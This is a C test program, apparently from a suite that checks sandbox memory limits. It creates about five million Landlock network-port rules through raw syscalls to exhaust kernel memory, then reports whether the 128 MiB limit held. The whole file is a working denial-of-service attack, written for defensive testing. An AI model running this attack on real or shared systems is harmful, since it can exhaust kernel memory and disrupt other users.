// attack: Fills memory of the kernel with Landlock rules, which live as long as a descriptor.
// expect: Completed
// expect-counted: OutOfMemory

#include <stdint.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#define CREATE_RULESET 444
#define ADD_RULE 445

struct ruleset { uint64_t files, network, scoped; };
struct port { uint64_t access, port; } __attribute__((packed));

int main(void) {
    struct ruleset all = {0, 1, 0};
    for (int n = 0; n < 80; n++) {
        int fd = (int)syscall(CREATE_RULESET, &all, 16, 0);
        if (fd < 0) {
            puts("held");
            return 0;
        }
        for (int number = 0; number < 65536; number++) {
            struct port port = {1, (uint64_t)number};
            if (syscall(ADD_RULE, fd, 2, &port, 0) != 0) { puts("held"); return 0; }
        }
    }
    sleep(2);
    puts("BROKEN: five million rules under a limit of 128 MiB");
    return 0;
}
